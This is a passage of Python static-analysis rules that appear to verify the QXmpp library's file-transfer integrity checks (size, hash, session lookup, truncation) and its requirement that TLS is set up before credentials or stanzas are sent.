            arm = success_arm(cd, cd.nodes[x]['args'][0])
            if arm == 'always':
                return True
            if arm[0] == 'var':
                # the values the result variable can hold at the call in this case
                at_call = set()

                def tr(f, nid, st, decl=arm[1], call=x):
                    m = f.nodes[nid]
                    if m['k'] == 'decl':
                        for d_ in m['decls']:
                            if d_['var'] == decl and d_.get('init') is not None:
                                return (f.const_value(d_['init']),)
                    if m['k'] == 'assign' and m.get('op') == '=':
                        l_ = f.nodes[f.skip(m['l'])]
                        if l_['k'] == 'var' and l_.get('decl') == decl:
                            return (f.const_value(m['r']),)
                    if nid == call:
                        at_call.update(st)
                    return None
                cfgx.explore(cd, (None,), tr, lambda f, c, st: evc(f, c, None))
                return NOERR in at_call or None in at_call
            # terminate(corrupt ? FileCorruptError : NoError): success only if the condition can select the NoError arm in this case
            v = evc(cd, arm[0], None)
            return not (isinstance(v, bool) and v != arm[1])
        bad = [x for x in ok_calls if reports_success(x)]
        if bad:
            run.violation(rid, 'checkData#%s-mismatch-accepted' % kind, cd.loc(bad[0]), 'success is reported although %s' % label, cfgx.describe_path(cd, res[bad[0]]))
        else:
            run.ok(rid, cd.loc(), '%s => not NoError' % label)
    # who else reports success on an incoming job
    for f in prog.fns.values():
        for i, n in f.calls():
            if not f.cname(n).endswith('::terminate') or not n.get('args') or success_arm(f, n['args'][0]) is None:
                continue
            o = n.get('obj')
            ot = (f.nodes[f.resolve(o)].get('t') or '') if o is not None else ''
            top = top_function(prog, f)
            incoming = IJ in ot or (f.nodes[f.skip(o)]['k'] == 'this' and top.record == IJ)
            generic = 'QXmppTransferJob *' in ot and 'Outgoing' not in ot and top.record == TM and 'Incoming' in f.fmt(o, inline=True)
            if not (incoming or generic):
                continue
            run.instance(rid)
            if top.qname == IJ + '::checkData':
                run.ok(rid, f.loc(i), 'terminate(NoError) in checkData()')
            else:
                run.violation(rid, 'incoming-success#%s' % top.qname, f.loc(i), '%s reports an incoming transfer as successful without the size/hash check' % top.display())


def r7(prog, run):
    rid = run.rule('C19.R7', 'the (sender, session id) lookup returns a job only if both the sender JID and the session id match; and an error reply to a data block ends the '
                             'outgoing job with an error: the first terminate() on that path (helpers included) is not NoError', floor=3)
    lk = prog.fn('QXmppTransferManagerPrivate::getIncomingJobBySid')
    pvars = {p['var']: k for k, p in enumerate(lk.params)}

    def param_of(f, x):
        m = f.nodes[f.skip(x)]
        if m['k'] == 'var' and m.get('decl') in pvars and (f.id == lk.id or m.get('outer')):
            return pvars[m['decl']]
        return None

    def eq_param(f, c, pol):
        bo = f.binop(f.skip(c))
        if bo and ((bo[0] == '==' and pol is True) or (bo[0] == '!=' and pol is False)):
            for x in (bo[1], bo[2]):
                k = param_of(f, x)
                if k is not None:
                    return k
        return None

    def conjuncts(f, e):
        bo = f.binop(f.skip(e))
        if bo and bo[0] == '&&':
            return conjuncts(f, bo[1]) + conjuncts(f, bo[2])
        return [e]

    def matched_at(f, ret_nid, expr):
        """parameters whose equality with the job's data is established for the job returned here"""
        have = {k for c, pol in f.atomic_assertions_at(ret_nid) for k in [eq_param(f, c, pol)] if k is not None}
        # a job found by std::find_if: what the predicate demands
        for j in f.walk(expr):
            m = f.nodes[j]
            if m['k'] == 'var' and m.get('vk') == 'local':
                d0 = f.single_def(m['decl'])
                dn = f.nodes[f.skip(d0)] if d0 is not None else {}
                if dn.get('k') == 'call' and f.cname(dn) in ('std::find_if', 'std::ranges::find_if'):
                    for a in dn.get('args', []):
                        an = f.nodes[f.skip(a)]
                        if an['k'] == 'var' and an.get('vk') == 'local' and f.single_def(an['decl']) is not None:
                            an = f.nodes[f.skip(f.single_def(an['decl']))]      # a named predicate: const auto isWanted = [&](...) {...};
                        if an['k'] == 'lambda':
                            for lam in prog.lambda_fns(f, an):
                                rets = [rn for _, rn in lam.returns() if 'e' in rn]
                                if len(rets) == 1:
                                    have |= {k for c in conjuncts(lam, rets[0]['e']) for k in [eq_param(lam, c, True)] if k is not None}
        return have
    rets = []
    for i, n in lk.returns():
        if 'e' not in n:
            continue
        if lk.const_value(n['e']) == ('null', None) or any(lk.nodes[j]['k'] == 'null' for j in lk.walk(n['e'])) and not any(lk.nodes[j]['k'] == 'var' for j in lk.walk(n['e'])):
            continue
        rets.append((i, n))
    if not rets:
        raise AnalysisBroken('C19.R7: getIncomingJobBySid returns no job')
    for pidx, what in ((0, 'sender JID'), (1, 'session id')):
        run.instance(rid)
        bad = [(i, n) for i, n in rets if pidx not in matched_at(lk, i, n['e'])]
        # a conditional expression "found ? job : nullptr" is decided by its condition, which atomic_assertions_at does not see: accept when the local it tests
        # comes from a find_if whose predicate demands the parameter (handled in matched_at through the walk of the returned expression)
        if bad:
            run.violation(rid, 'getIncomingJobBySid#ignores-%s' % what.split(' ')[0], lk.loc(bad[0][0]),
                          'the lookup can return a job (%s) without having compared the %s of the request with the job\'s: a block (or open/close) from another entity is applied '
                          'to this transfer' % (lk.fmt(bad[0][1]['e'], inline=False)[:50], what))
        else:
            run.ok(rid, lk.loc(), 'a job is returned only where its %s equals the requested one' % what)
    rsp = prog.fn(TM + '::ibbResponseReceived')
    run.instance(rid)

    def event_of(f, nid):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n).endswith('::terminate') and n.get('args'):
            v = f.const_value(n['args'][0])
            return ('terminate', v[1].split('::')[-1] if v else '?')
        return None
    seqs = cfgx.effect_sequences(prog, rsp, event_of, bindings={'QXmppIq::type': ('enum', 'QXmppIq::Error')})
    firsts = {q[0][1] for q in seqs if q and q[0] != '?'} | {'?' for q in seqs if q and q[0] == '?'}
    if not any(q for q in seqs):
        run.violation(rid, 'ibbResponseReceived#error-reply#not-terminated', rsp.loc(), 'an error reply to a data block does not end the outgoing job')
    elif 'NoError' in firsts or '?' in firsts:
        run.violation(rid, 'ibbResponseReceived#error-reply#reported-success', rsp.loc(),
                      'after an error reply to a data block the first terminate() on some path is %s (terminate() honours only its first call): the sender reports success although '
                      'the receiver refused a block' % sorted(firsts))
    else:
        run.ok(rid, rsp.loc(), 'an error reply ends the outgoing job with %s' % sorted(firsts))


def r4(prog, run):
    rid = run.rule('C19.R4', 'writeData counts exactly the bytes the device accepted and hashes the same buffer', floor=1)
    wd = prog.fn(IJ + '::writeData')
    run.instance(rid)
    adds = [(g, n) for g in prog.closure(wd) for i, n in g.all_nodes('assign') if n['op'] == '+=' and g.nodes[g.skip(n['l'])].get('name') == 'done']
    hashes = [n for i, n in wd.calls('QCryptographicHash::addData')]
    wr = [n for i, n in wd.calls('QIODevice::write')]
    ok = len(adds) == 1 and wr and hashes

    def counted_text(g, e):
        # what is added: in writeData itself, or the argument handed to a local helper lambda whose parameter is added
        v = g.nodes[g.resolve(e)]
        if g.id != wd.id and v['k'] == 'var' and v.get('vk') == 'param' and not v.get('outer'):
            for i, c in wd.calls():
                if c.get('op') == '()' and c.get('opargs') and g.id in [l.id for l in prog.lambda_fns(wd, wd.nodes[wd.resolve(c['opargs'][0])])] and len(c['opargs']) > 1 + v.get('pidx', 0):
                    return wd.fmt(c['opargs'][1 + v['pidx']])
            return ''
        return g.fmt(e)
    if ok:
        ok = 'QIODevice::write(p0)' in counted_text(adds[0][0], adds[0][1]['r']) and wd.fmt(hashes[0]['args'][0]) == 'p0' and wd.fmt(wr[0]['args'][0]) == 'p0'
    if ok:
        run.ok(rid, wd.loc(), 'done += device->write(data); hash.addData(data)')
    else:
        run.violation(rid, 'writeData#accounting', wd.loc(), 'the byte count / hash are not computed from what was written')
    run.info(rid, prog.fn(TM + '::ibbDataIqReceived').loc(), 'the result of writeData() is ignored by ibbDataIqReceived (an acknowledged but unwritten block is caught by the size check when a size is known)')


def r5(prog, run):
    rid = run.rule('C19.R5', 'the SOCKS5 receive slot drains the socket: everything that is buffered when readyRead fires is written (readAll, or bounded reads in a '
                             'loop) - Qt does not signal readyRead again for data that is already buffered', floor=1)
    rd = prog.fn(IJ + '::_q_receiveData')
    reads = [(i, n) for i, n in rd.calls() if rd.cname(n) in ('QIODevice::readAll', 'QIODevice::read', 'QIODevice::readLine', 'QIODevice::peek')]
    if not reads:
        raise AnalysisBroken('C19.R5: no socket read found in _q_receiveData')
    for i, n in reads:
        run.instance(rid)
        if rd.cname(n) == 'QIODevice::readAll':
            run.ok(rid, rd.loc(i), 'readAll()')
            continue
        # a bounded read is fine inside a loop
        b0 = rd.pos(i)[0]
        seen = set()
        stack = [s2 for s2 in rd.blocks[b0]['succs'] if s2 is not None]
        looped = False
        while stack:
            x = stack.pop()
            if x == b0:
                looped = True
                break
            if x in seen:
                continue
            seen.add(x)
            stack.extend(s2 for s2 in rd.blocks[x]['succs'] if s2 is not None)
        if looped:
            run.ok(rid, rd.loc(i), '%s inside a loop' % rd.fmt(i, inline=False)[:50])
        else:
            run.violation(rid, '_q_receiveData#bounded-read-once', rd.loc(i),
                          '%s reads a bounded amount once per readyRead: data that is already buffered is never signalled again, so a transfer larger than one '
                          'block stalls and is reported corrupt while the sender reports success' % rd.fmt(i, inline=False)[:60])


def r6(prog, run):
    rid = run.rule('C19.R6', 'an announced size of 0 means "unknown": the size only enters comparisons or arithmetic behind a test that it is non-zero (otherwise a transfer of '
                             'unknown length is cut short or judged against 0)', floor=2)
    SIZE = ('QXmppTransferJob::fileSize', 'QXmppTransferFileInfo::size')
    n_uses = 0
    for f in prog.fns.values():
        if 'QXmppTransferManager.cpp' not in f.file or f.entry is None:
            continue
        par = f.parents()
        for i, n in f.calls():
            if f.cname(n) not in SIZE:
                continue
            # climb through casts to the consuming operation
            j = i
            p = par.get(j)
            while p is not None and f.nodes[p]['k'] in ('icast', 'cast'):
                j, p = p, par.get(p)
            pn = f.nodes[p] if p is not None else None
            bo = f.binop(p) if p is not None else None
            arith = bo is not None and bo[0] in ('-', '+', '<', '<=', '>', '>=', '==', '!=', '/', '%')
            minmax = pn is not None and pn['k'] == 'call' and (f.sym(pn) or {}).get('name') in ('qMin', 'qMax', 'min', 'max', 'qBound')
            # a local initialised from the size: what counts are the uses of that local
            sites = [(i, p)]
            if pn is not None and pn['k'] == 'decl':
                vdecl = [d['var'] for d in pn['decls'] if d.get('init') is not None and f.skip(d['init']) in (f.skip(i), f.skip(j))]
                sites = []
                for u, un in enumerate(f.nodes):
                    if un['k'] == 'var' and vdecl and un.get('decl') == vdecl[0]:
                        ju, pu = u, par.get(u)
                        while pu is not None and f.nodes[pu]['k'] in ('icast', 'cast'):
                            ju, pu = pu, par.get(pu)
                        bu = f.binop(pu) if pu is not None else None
                        pnu = f.nodes[pu] if pu is not None else None
                        if (bu is not None and bu[0] in ('-', '+', '<', '<=', '>', '>=', '==', '!=', '/', '%')) or \
                                (pnu is not None and pnu['k'] == 'call' and (f.sym(pnu) or {}).get('name') in ('qMin', 'qMax', 'min', 'max', 'qBound')):
                            sites.append((u, pu))
                arith = bool(sites)
            if not (arith or minmax):
                continue
            n_uses += 1
            run.instance(rid)
            me = f.fmt(i)

            def is_guarded(use):
                mine = {me, f.fmt(use), f.fmt(use, inline=False)}
                for c, p2 in f.atomic_assertions_at(use):
                    t = {f.fmt(c), f.fmt(c, inline=False)}
                    if p2 is True and t & mine:
                        return True
                    bo2 = f.binop(f.skip(c))
                    if bo2 and f.const_value(bo2[2]) == ('int', 0) and ({f.fmt(bo2[1]), f.fmt(bo2[1], inline=False)} & mine):
                        if (bo2[0] == '==' and p2 is False) or (bo2[0] in ('!=', '>') and p2 is True):
                            return True
                return False
            guarded = all(is_guarded(u) for u, _ in sites)
            p = sites[0][1] if sites else p
            if guarded:
                run.ok(rid, f.loc(i), '%s used behind a non-zero test in %s' % (me[-40:], f.display()[:40]))
            else:
                run.violation(rid, '%s#size-used-unguarded' % top_function(prog, f).qname, f.loc(i),
                              '%s enters %s without a test that a size was announced at all: with an unknown size (0) the computation uses 0 as if it were the real length'
                              % (me[-40:], f.fmt(p, inline=False)[:60]))
    if n_uses < 2:
        raise AnalysisBroken('C19.R6: uses of the announced size not found')


# --------------------------------------------------------------------------- R8: the destination starts empty; the offer carries the hash
def r8(prog, run):
    from .. import cfgx
    rid = run.rule('C19.R8', 'the file an incoming job writes to starts empty (a file the job opens itself is opened write-only or with Truncate, never appending or read-write '
                             'without truncation: size and hash only cover the received blocks, an old tail would survive a "successful" transfer); and the hash the sender '
                             'computes is stored in the file description before the offer is serialized and sent (the receiver verifies content only against the announced hash)',
                   floor=2)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or not f.file.endswith('QXmppTransferManager.cpp') or not f.qname.startswith('QXmppTransferJob::accept'):
            continue
        for i, c in f.calls():
            if (f.cname(c) or '') not in ('QFile::open', 'QIODevice::open', 'QFileDevice::open', 'QSaveFile::open') or not c.get('args'):
                continue
            n += 1
            run.instance(rid)
            def enumerators(nid, depth=0):
                out = set()
                for j in f.walk(nid):
                    m = f.nodes[j]
                    if m['k'] == 'enum':
                        out.add(m['name'].split('::')[-1])
                    if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
                        for d_ in f.all_defs(m.get('decl')):
                            if d_ is not None:
                                out |= enumerators(d_, depth + 1)
                return out
            flags = enumerators(c['args'][0])
            ok = flags == {'WriteOnly'} or ('Truncate' in flags and 'Append' not in flags)
            if ok:
                run.ok(rid, f.loc(i), 'destination opened with %s (truncating)' % '|'.join(sorted(flags)))
            else:
                run.violation(rid, '%s#destination-not-truncated' % f.outer_name(), f.loc(i),
                              '%s opens the destination with %s: an existing file is not emptied, so bytes of the old file remain behind (or in front of) the received ones while '
                              'size and hash - computed over the received blocks - still match and the job reports success' % (f.display()[:50], '|'.join(sorted(flags)) or '?'))
    if not n:
        raise AnalysisBroken('C19.R8: QXmppTransferJob::accept(filePath) no longer opens a file')
    # the hash is in the file description when the offer is made
    cands = [f for f in prog.fns_named('QXmppTransferManager::sendFile') if f.entry is not None and any((f.cname(c) or '').endswith('QXmppTransferFileInfo::setHash') for _, c in f.calls())]
    if len(cands) != 1:
        raise AnalysisBroken('C19.R8: the sendFile() overload that hashes the file was not identified')
    sf = cands[0]

    def event_of(g, nid):
        c = g.nodes[nid]
        if c['k'] != 'call':
            return None
        cn = g.cname(c) or ''
        if cn.endswith('QXmppTransferFileInfo::setHash'):
            o = g.nodes[g.resolve(c['obj'])] if c.get('obj') is not None else {}
            return 'hash' if o.get('k') == 'var' and o.get('vk') == 'local' else 'hash-elsewhere'
        if cn == 'QXmppTransferManager::sendFile' and g.id == sf.id:
            return 'offer'
        return None
    seqs = cfgx.effect_sequences(prog, sf, event_of, follow=lambda g: False)
    run.instance(rid)
    if not any('offer' in q for q in seqs):
        raise AnalysisBroken('C19.R8: the hashing sendFile() no longer delegates to the overload that makes the offer')
    bad = [q for q in seqs if ('hash' in q and 'offer' in q and q.index('hash') > q.index('offer')) or 'hash-elsewhere' in q]
    if bad:
        run.violation(rid, 'sendFile#hash-after-offer', sf.loc(),
                      'sendFile(jid, filePath) stores the file hash after (or outside) the file description it hands to the overload that serializes and sends the offer (effect order %s): '
                      'the offer goes out without a hash, the receiver has nothing to verify the content against and accepts altered blocks of the right length' % list(bad[0]))
    elif not any('hash' in q for q in seqs):
        run.violation(rid, 'sendFile#no-hash', sf.loc(), 'sendFile(jid, filePath) never stores a hash in the file description')
    else:
        run.ok(rid, sf.loc(), 'the hash is stored in the local file description before the offer is made (%s)' % sorted(seqs))


# --------------------------------------------------------------------------- R9: what was received is counted once and for the whole transfer
def r9(prog, run):
    from ..effects import field_uses, top_function
    rid = run.rule('C19.R9', 'the accounting the final verdict rests on - bytes done, the running hash, the expected block number - only moves forward during a transfer: the byte count '
                             'and the block counter are only incremented, the hash only fed; nothing but the constructor sets them back (a peer that repeats <open/> would otherwise '
                             'restart size and hash over a file that already holds the earlier blocks)', floor=4)
    priv = prog.record('QXmppTransferJobPrivate')
    fields = {}
    for fl in priv['fields']:
        q = fl.get('qname') or 'QXmppTransferJobPrivate::' + fl['name']
        t = fl.get('t') or ''
        if 'QCryptographicHash' in t:
            fields[q] = 'hash'
        elif fl['name'] in ('done', 'ibbSequence') or (t in ('qint64', 'quint16') and fl['name'].lower() in ('done', 'ibbsequence')):
            fields[q] = 'counter'
    # identify the counters by use rather than by name: integer members of the private that are incremented (+=, ++) in the transfer code
    for fl in priv['fields']:
        q = fl.get('qname') or 'QXmppTransferJobPrivate::' + fl['name']
        if q in fields or not (fl.get('tc') or '').startswith('int'):
            continue
        if any(h.startswith(('assign +=', 'post++', 'pre++', '++')) for f, i, k, h in field_uses(prog, q) if k == 'write'):
            fields[q] = 'counter'
    if sum(1 for v in fields.values() if v == 'counter') < 2 or 'hash' not in fields.values():
        raise AnalysisBroken('C19.R9: byte counter / block counter / running hash of the job not identified (%s)' % fields)
    n = 0
    for q, kind in sorted(fields.items()):
        for f, i, k, h in field_uses(prog, q):
            if k not in ('write', 'addr') or h == 'constructor initialiser':
                continue
            n += 1
            run.instance(rid)
            forward = h.startswith(('assign +=', 'post++', 'pre++', '++', 'addData')) or h.split(' ')[0] in ('addData', 'post++', 'pre++')
            if forward or (kind == 'hash' and 'addData' in h):
                run.ok(rid, f.loc(i), '%s: %s' % (q.split('::')[-1], h), nontrivial=False)
            else:
                run.violation(rid, '%s#accounting-set-back:%s' % (top_function(prog, f).qname, q.split('::')[-1]), f.loc(i),
                              '%s sets %s back (%s) in the middle of a job\'s life: blocks already written stay in the output, while size and hash verification start over - a '
                              'transfer that contains extra or repeated data ends with "no error"' % (top_function(prog, f).display()[:50], q.split('::')[-1], h))
    if n < 4:
        raise AnalysisBroken('C19.R9: only %d updates of the accounting members found' % n)
