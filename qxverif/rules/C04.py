"""C04 — with TLS required, no credential or stanza is sent before the link is encrypted.

R1 gate function total for TLSRequired (finite abstract evaluation of handleStarttls)
R2 gate dominance over every negotiation starter (call-graph least fix-point)
R3 who-may-send: every function that puts a non-negotiation payload on the socket is gated;
   inbound stanza dispatch is unreachable while TLS is required and the socket is unencrypted
R4 legacy-auth order and digest preference
"""
from collections import defaultdict

from .. import cfgx
from ..callgraph import connects, emit_sites, lambda_role, reach, path_to
from ..build import AnalysisBroken

UNITS = ['client/QXmppOutgoingClient.cpp', 'client/QXmppSaslManager.cpp', 'base/QXmppStreamManagement.cpp',
         'base/Stream.cpp']

OC = 'QXmppOutgoingClient'
GATE = 'QXmppOutgoingClient::handleStarttls'
SCOPE_FILES = ('client/QXmppOutgoingClient.cpp', 'client/QXmppOutgoingClient_p.h', 'client/QXmppOutgoingClient.h',
               'client/QXmppSaslManager.cpp', 'client/QXmppSaslManager_p.h', 'base/QXmppStreamManagement.cpp',
               'base/QXmppStreamManagement_p.h', 'base/Stream.cpp', 'base/XmppSocket.h')

# payload types that may legitimately travel before encryption (stream framing, the STARTTLS
# request itself and XEP-0198 counters, none of which is a credential, a bind or a stanza)
ALLOWED_PLAIN = {
    'QXmpp::Private::StreamOpen': 'stream header',
    'QXmpp::Private::StarttlsRequest': 'the STARTTLS request itself',
    'QXmpp::Private::SmAck': 'XEP-0198 <a/> counter (no stanza, no credential)',
    'QXmpp::Private::SmRequest': 'XEP-0198 <r/> (no stanza, no credential)',
    'literal:</stream:stream>': 'stream close tag',
}


def in_scope(f):
    return any(f.file.endswith(s) for s in SCOPE_FILES)


def payload_class(fn, arg):
    """classify what a sendData argument carries"""
    a = fn.resolve(arg)
    n = fn.nodes[a]
    if n['k'] == 'cond':
        x, y = payload_class(fn, n['a']), payload_class(fn, n['b'])
        return x if x == y else x + '|' + y
    if n['k'] == 'call' and fn.cname(n) == 'QXmpp::Private::serializeXml' and n.get('args'):
        p = fn.resolve(n['args'][0])
        pn = fn.nodes[p]
        t = pn.get('cls') or pn.get('t') or ''
        if pn['k'] == 'initlist':
            t = pn.get('t', '')
        t = t.replace('const ', '').replace('&', '').strip()
        return t
    if n['k'] == 'str':
        return 'literal:' + n['v']
    if n['k'] == 'construct' and n.get('args'):
        s = fn.strval(n['args'][0])
        if s is not None:
            return 'literal:' + s
    if n['k'] == 'call' and fn.cname(n) == 'QXmppPacket::data':
        return 'QXmppPacket(stanza or nonza bytes)'
    return 'unknown:' + fn.fmt(arg)[:60]


def run(prog, run):
    run.explanation = ('Static decision of the TLS gate: handleStarttls is evaluated abstractly for every (server TLS mode, '
                       'local TLS support) under "TLS required and socket unencrypted"; a call-graph fix-point from the socket-driven '
                       'slots shows which functions can run without having passed the gate, and every negotiation starter and every '
                       'function that writes a credential/bind/stanza payload to the socket must not be among them. Decides the '
                       'code-shape clause, not Qt\'s TLS implementation.')
    run.assume('QSslSocket::isEncrypted() is true exactly when the TLS handshake has completed (Qt contract)')
    run.assume('application calls into the send API before connected() are outside the quantifier (remote end and configuration)')
    r0(prog, run)
    r1(prog, run)
    ungated, tree, edges = r2(prog, run)
    r3(prog, run)
    r4(prog, run)
    r6(prog, run)


def r6(prog, run):
    """elements of a new stream are dispatched to the current listener first (handlePacketReceived): a negotiation manager left over from an
    earlier, encrypted connection would answer them behind the TLS gate.  The clause is C10.R4's; it is shared, not copied."""
    from . import C10
    rid = run.rule('C04.R6', 'no negotiation manager of an earlier connection is listening when a new stream starts: handleStart makes the client itself the listener on '
                             'every path (= C10.R4), so the first elements of an unencrypted stream meet the TLS gate and not a stale authentication step', floor=1)
    sub = type(run)(run.prop, run.tier, run.seed)
    C10.r4(prog, sub)
    run.instance(rid)
    hits = [v for v in sub.violations if 'listener' in v['key']]
    if hits:
        run.violation(rid, 'handleStart#stale-listener', hits[0]['site'],
                      'a new stream keeps the listener of the previous connection: a legacy-auth / SASL / bind step that was waiting for an answer when that connection ended '
                      'processes the first elements of the new, still unencrypted stream and sends its next step (credentials) without the STARTTLS decision having been made')
    else:
        run.ok(rid, 'src/client/QXmppOutgoingClient.cpp', 'handleStart resets the listener to the client on every path (C10.R4)')


# --------------------------------------------------------------------------- R0
ORACLES = {'QSslSocket::isEncrypted': False}     # callee (or 'field:<name>') -> value in the "not yet encrypted" environment


def r0(prog, run):
    """which predicates the gates may consult for "the link is encrypted": the live QSslSocket state, wrappers that return exactly that,
    or a cached member flag provided it is cleared whenever a new connection starts"""
    rid = run.rule('C04.R0', 'the gates consult the live TLS state of the socket (QSslSocket::isEncrypted, directly or through a wrapper), or a cached flag that '
                             'every new connection clears', floor=1)
    for k in list(ORACLES):
        if k != 'QSslSocket::isEncrypted':
            del ORACLES[k]
    run.instance(rid)
    run.ok(rid, 'Qt', 'QSslSocket::isEncrypted is the base oracle', nontrivial=False)
    for f in prog.fns.values():
        if f.is_lambda or not in_scope(f) or f.params or f.name not in ('isEncrypted', 'encrypted', 'isSecure', 'isTlsActive'):
            continue
        rets = [n for _, n in f.returns() if n.get('e') is not None]
        if len(rets) != 1:
            continue
        e = f.nodes[f.skip(rets[0]['e'])]
        run.instance(rid)
        if e['k'] == 'call' and f.cname(e) in ORACLES:
            ORACLES[f.qname] = False
            run.ok(rid, f.loc(), '%s returns %s' % (f.qname, f.cname(e)))
            continue
        if e['k'] == 'mem':
            fld = e['f']
            # every connection start must clear the flag: connectToHost (all paths) or the slot of QAbstractSocket::connected
            starters = []
            for g in prog.fns.values():
                if g.qname.endswith('::connectToHost') and (g.record or '') == (f.record or ''):
                    starters.append(g)
            for c in connects(prog, [g for g in prog.fns.values() if in_scope(g)]):
                if c['signal']['qname'] == 'QAbstractSocket::connected' and c['kind'] == 'lambda':
                    starters.extend(c['target'])
            cleared = False
            for g in starters:
                for i, n in g.all_nodes('assign'):
                    if g.nodes[g.skip(n['l'])].get('f') == fld and g.const_value(n['r']) == ('bool', False):
                        pos = g.pos(i)
                        if pos and (pos[0] == g.entry or ('b', pos[0]) in g.pdom().get(('b', g.entry), set())):
                            cleared = True
            if cleared:
                ORACLES[f.qname] = False
                ORACLES['field:' + fld] = False
                run.ok(rid, f.loc(), '%s returns the cached flag %s, which every new connection clears' % (f.qname, fld.split('::')[-1]))
            else:
                ORACLES[f.qname] = False     # the remaining rules treat it as the gate predicate; the defect is reported here
                run.violation(rid, '%s#stale-encrypted-flag' % f.qname, f.loc(),
                              '%s answers from the cached flag %s, which is not cleared when a new connection starts (connectToHost / the connected slot): after a '
                              'TLS session that ended without disconnectFromHost() the next, unencrypted connection is taken for encrypted and the TLS gates are skipped'
                              % (f.qname, fld.split('::')[-1]))
            continue
        run.info(rid, f.loc(), '%s is not recognised as an encryption predicate' % f.qname)
    TLS_PENDING.update(ORACLES)


# --------------------------------------------------------------------------- R1
def r1(prog, run):
    rid = run.rule('C04.R1', 'handleStarttls returns true, sends only <starttls/> and disconnects or waits for <proceed/> '
                             'for every (remote TLS mode, local SSL support) when TLS is required and the socket is unencrypted', floor=6)
    fn = prog.fn(GATE)
    mode = prog.enum('QXmppStreamFeatures::Mode')
    remotes = [('enum', 'QXmppStreamFeatures::' + e['name']) for e in mode['enumerators']]
    needed = {'QXmppConfiguration::streamSecurityMode', 'QXmppStreamFeatures::tlsMode', 'QSslSocket::supportsSsl'}
    present = {fn.cname(n) for _, n in fn.calls()}
    if not needed <= present:
        raise AnalysisBroken('C04.R1: handleStarttls no longer reads %s' % sorted(needed - present))
    if not (present & set(ORACLES)):
        raise AnalysisBroken('C04.R1: handleStarttls no longer asks whether the socket is encrypted (known predicates: %s)' % sorted(ORACLES))

    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call':
            cn = f.cname(n)
            if cn.endswith('::sendData'):
                return st + (('send', payload_class(f, n['args'][0])),)
            if cn == 'QXmppOutgoingClient::disconnectFromHost':
                return st + (('disconnect',),)
            if cn == 'QXmppOutgoingClientPrivate::setListener':
                return st + (('listener', f.sym(n).get('targs', '')),)
        elif n['k'] == 'ret':
            v = f.const_value(n['e']) if 'e' in n else None
            return st + (('ret', v[1] if v else '?'),)
        return None

    for remote in remotes:
        for ssl in (True, False):
            run.instance(rid)
            ev = cfgx.Evaluator(fn, {**ORACLES,
                                     'QXmppConfiguration::streamSecurityMode': ('enum', 'QXmppConfiguration::TLSRequired'),
                                     'QXmppStreamFeatures::tlsMode': remote,
                                     'QSslSocket::supportsSsl': ssl})
            exits, info = cfgx.explore(fn, (), transfer, lambda f, c, st: ev.ev(c, st))
            run.paths += len(exits)
            site = '%s remote=%s ssl=%s' % (fn.loc(), remote[1].split('::')[-1], ssl)
            for st, path in exits.items():
                rets = [e[1] for e in st if e[0] == 'ret']
                sends = [e[1] for e in st if e[0] == 'send']
                disc = any(e[0] == 'disconnect' for e in st)
                lst = [e[1] for e in st if e[0] == 'listener']
                key = 'handleStarttls#remote=%s,ssl=%s' % (remote[1].split('::')[-1], ssl)
                wp = cfgx.describe_path(fn, path)
                if rets != [True]:
                    run.violation(rid, key + '#ret', site, 'gate lets negotiation continue unencrypted (returns %s)' % rets, wp)
                    continue
                bad = [s for s in sends if s != 'QXmpp::Private::StarttlsRequest']
                if bad:
                    run.violation(rid, key + '#send', site, 'sends %s before encryption' % bad, wp)
                    continue
                if not disc and not any('StarttlsManager' in l for l in lst):
                    run.violation(rid, key + '#wait', site, 'neither disconnects nor waits for <proceed/>', wp)
                    continue
                run.ok(rid, site, 'returns true; sends=%s; %s' % (sends, 'disconnects' if disc else 'waits for <proceed/>'))
    run.extra['exhaustive_r1'] = True


# --------------------------------------------------------------------------- R2
_reach_cache = {}

# the abstract environment "TLS is required and the socket is not encrypted"; handleStarttls() is
# true in it on every path, which is exactly what R1 establishes
TLS_PENDING = {'QSslSocket::isEncrypted': False,
               'QXmppConfiguration::streamSecurityMode': ('enum', 'QXmppConfiguration::TLSRequired'),
               GATE: True}


def locally_gated(f, nid):
    """the site cannot execute, within its function, while TLS is required and the socket is unencrypted"""
    if f.id not in _reach_cache:
        ev = cfgx.Evaluator(f, TLS_PENDING)
        _reach_cache[f.id] = cfgx.reachable_blocks(f, lambda fn, c, st: ev.ev(c, st))
    pos = f.pos(nid)
    if pos is None:
        return False
    return pos[0] not in _reach_cache[f.id]


def build_edges(prog, run):
    fns = [f for f in prog.fns.values() if in_scope(f)]
    byid = {f.id: f for f in fns}
    edges = defaultdict(list)      # caller id -> [(callee id, (caller fn, site nid, kind))]
    roots = {}
    cons = connects(prog, fns)
    connected_lambdas = {}
    for c in cons:
        if c['kind'] == 'lambda':
            connected_lambdas[(c['fn'].id, c['lambda_nid'])] = c
    dispatch = prog.fn('QXmppOutgoingClient::handlePacketReceived')
    dispatch_ids = {l.id for l in prog.lambdas_in(dispatch)} | {dispatch.id}
    uses_listener = any(n['k'] == 'mem' and n['f'] == 'QXmppOutgoingClientPrivate::listener'
                        for _, n in dispatch.all_nodes())
    if not uses_listener:
        raise AnalysisBroken('C04.R2: handlePacketReceived no longer dispatches over d->listener')
    n_dispatch = 0
    for f in fns:
        for i, n in f.calls():
            s = f.sym(n)
            if not s:
                continue
            g = byid.get(s['usr'])
            if g is None:
                continue
            if f.id in dispatch_ids and g.name == 'handleElement' and g.record != OC:
                n_dispatch += 1
                continue     # listener dispatch: reachable only after a starter installed that manager (R2 gates starters)
            edges[f.id].append((g.id, (f, i, 'call')))
        for i, n in f.all_nodes('lambda'):
            for lf in prog.lambda_fns(f, n):
                c = connected_lambdas.get((f.id, i))
                if c is None:
                    edges[f.id].append((lf.id, (f, i, 'lambda')))
    # signal/slot and timer edges
    for c in cons:
        targets = c['target'] if c['kind'] == 'lambda' else ([byid[c['target']['usr']]] if c['kind'] == 'slot' and c['target']['usr'] in byid else [])
        if c['kind'] == 'string-slot':
            raise AnalysisBroken('C04.R2: string-based connect in analysed class at %s' % c['fn'].loc(c['nid']))
        if not targets:
            continue
        sites = []
        if c.get('timer'):
            # timer callbacks run after <timer field>->start()
            sender = c['fn'].nodes[c['fn'].skip(c['sender'])] if c['sender'] is not None else None
            field = sender.get('f') if sender and sender['k'] == 'mem' else None
            if field:
                for f in fns:
                    for i, n in f.calls('QTimer::start'):
                        o = n.get('obj')
